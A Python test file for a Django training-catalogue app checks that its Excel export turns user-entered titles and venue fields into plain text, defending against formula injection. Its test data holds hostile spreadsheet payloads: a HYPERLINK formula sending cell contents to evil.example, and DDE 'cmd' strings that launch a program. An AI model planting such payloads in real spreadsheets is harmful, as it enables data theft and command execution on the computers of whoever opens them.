"""D5 / K1: cells of the Excel export are never formulas, whatever the OF typed."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ofeli.exports.excel import safe_text
from ofeli.exports.models import ExportJob, ExportStatus
from ofeli.structures.models import Lieu
from tests.factories import MembershipFactory, StaffFactory, StructureFactory, draft_formation, published_formation

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Voir la fiche")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "#N/A"]


def export_rows(client):
    response = client.post(reverse("exports:create"), {"format": "xlsx", "version": "2.3", "criteres": "", "next": "/"})
    assert response.status_code == 302
    job = ExportJob.objects.latest("pk")
    assert job.status == ExportStatus.DONE, job.error
    response = client.get(reverse("exports:download", args=[job.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["Sessions"]
    return list(sheet.iter_rows(min_row=2))


def assert_text_only(rows, expected_titles):
    cells = [cell for row in rows for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    titles = sorted(row[1].value for row in rows)
    assert titles == sorted(expected_titles)


def test_d5_formula_titles_are_text_in_the_of_export_of_its_drafts(client):
    structure = StructureFactory()
    user = MembershipFactory(structure=structure).user
    for title in HOSTILE:
        draft_formation(structure, user, intitule=title)
    Lieu.objects.filter(structure=structure).update(nom="=1+2", adresse="@cmd")
    client.force_login(user)
    rows = export_rows(client)
    assert_text_only(rows, ["'" + t if t[0] in "=+-@\t\r" else t for t in HOSTILE])
    header_lieu = 24  # « Lieu de formation »
    assert {row[header_lieu].value for row in rows} == {"'=1+2"}
    assert {row[header_lieu + 1].value for row in rows} == {"'@cmd"}
    na = next(row[1] for row in rows if row[1].value == "#N/A")
    assert na.data_type == "s"  # text, not the error value


def test_d5_formula_titles_are_text_in_the_carif_export(client):
    published_formation(intitule=HYPERLINK)
    published_formation(intitule=DDE)
    client.force_login(StaffFactory())
    rows = export_rows(client)
    assert_text_only(rows, ["'" + HYPERLINK, "'" + DDE])


def test_d5_safe_text_neutralises_the_owasp_triggers_and_control_characters():
    assert safe_text("=1+1") == "'=1+1"
    assert safe_text("Comptabilité - niveau 1") == "Comptabilité - niveau 1"
    assert safe_text("a\x00b\x07c") == "abc"
    assert safe_text("\x00=1") == "'=1"  # the removed character does not hide the trigger
